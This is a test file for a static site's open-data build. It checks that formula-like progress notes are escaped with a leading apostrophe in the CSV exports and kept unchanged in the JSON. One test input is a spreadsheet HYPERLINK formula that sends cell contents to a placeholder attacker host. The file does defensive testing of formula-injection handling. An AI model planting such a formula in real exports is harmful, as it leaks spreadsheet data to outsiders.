/**
 * CSV formula injection (issue item 5), on a real build: progress reports whose 进展情况 starts
 * like a spreadsheet formula are built into a temporary copy of the project; the CSV exports hold
 * each such cell behind a leading apostrophe (OWASP's rule), the JSON export keeps the text as
 * the content holds it, and /data/ says so. Nothing is written to the project itself.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSiteWorkspace, projectContent } from '../../scripts/lib/workspace.ts';
import { parseCsv } from '../../src/lib/data/csv.ts';
import { htmlText } from './support/html.ts';

const REPO = resolve(import.meta.dirname, '../..');
const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"点击查看佐证")';

/** Task → the 进展情况 its one report holds, as written in the YAML (double-quoted, escapes kept). */
const NOTES: Record<string, string> = {
  '01-1': HYPERLINK,
  '01-2': '+1',
  '02-1': '-1',
  '02-2': '@SUM(A1:A9)',
  // The content schema trims text, so a leading tab never reaches the site: what remains, =1, is neutralised.
  '02-3': '\t=1',
  '02-4': '已完成 = 100%',
};

let root: string;
let dist: string;

beforeAll(() => {
  root = join(tmpdir(), `zwgk-formulas-${process.pid}`);
  rmSync(root, { recursive: true, force: true });
  const content = projectContent(REPO);
  for (const [task, note] of Object.entries(NOTES))
    content.set(
      `src/content/progress/2021/${task}.yaml`,
      `task: 2021/${task}\nupdates:\n  - date: 2021-07-10\n    status: 推进中\n    note: ${JSON.stringify(note)}\n`,
    );
  createSiteWorkspace(REPO, root, content);
  const built = spawnSync(process.execPath, ['scripts/build.ts', '--as-of', '2021-09-15'], { cwd: root, encoding: 'utf8' });
  if (built.status !== 0) throw new Error(built.stdout + built.stderr);
  dist = join(root, 'dist');
}, 600_000);

afterAll(() => rmSync(root, { recursive: true, force: true }));

const csv = (file: string) => parseCsv(readFileSync(join(dist, 'data/2021', file), 'utf8').replace(/^\uFEFF/, ''));
/** A CSV's column `name` by the row's first cell. */
const column = (rows: string[][], name: string) => new Map(rows.slice(1).map((r) => [r[0]!, r[rows[0]!.indexOf(name)]!]));

describe('open data holds no live formula', () => {
  const expected = {
    '2021/01-1': `'${HYPERLINK}`,
    '2021/01-2': "'+1",
    '2021/02-1': "'-1",
    '2021/02-2': "'@SUM(A1:A9)",
    '2021/02-3': "'=1",
    '2021/02-4': '已完成 = 100%',
  };

  it('tasks.csv: every 进展情况 that starts like a formula has a leading apostrophe', () => {
    const notes = column(csv('tasks.csv'), '进展情况');
    expect(Object.fromEntries(Object.keys(expected).map((id) => [id, notes.get(id)]))).toEqual(expected);
  });

  it('progress.csv: the same, report by report', () => {
    const notes = column(csv('progress.csv'), '进展情况');
    expect(Object.fromEntries(Object.keys(expected).map((id) => [id, notes.get(id)]))).toEqual(expected);
  });

  it('tasks.json keeps the text as the content holds it, without an apostrophe', () => {
    const json = JSON.parse(readFileSync(join(dist, 'data/2021/tasks.json'), 'utf8')) as {
      tasks: { id: string; status: { note: string } }[];
    };
    const notes = new Map(json.tasks.map((t) => [t.id, t.status.note]));
    expect(Object.fromEntries(Object.keys(expected).map((id) => [id, notes.get(id)]))).toEqual({
      '2021/01-1': HYPERLINK,
      '2021/01-2': '+1',
      '2021/02-1': '-1',
      '2021/02-2': '@SUM(A1:A9)',
      '2021/02-3': '=1',
      '2021/02-4': '已完成 = 100%',
    });
  });

  it('/data/ explains the apostrophe', () => {
    expect(htmlText(readFileSync(join(dist, 'data/index.html'), 'utf8'))).toContain(
      "CSV 中以 =、+、-、@、制表符或回车开头的单元格，前面加一个英文单引号 '（如 '=1+1、'-1），表格软件会把它显示为文字。JSON 文件中的文字保持原样，不加单引号。",
    );
  });
});
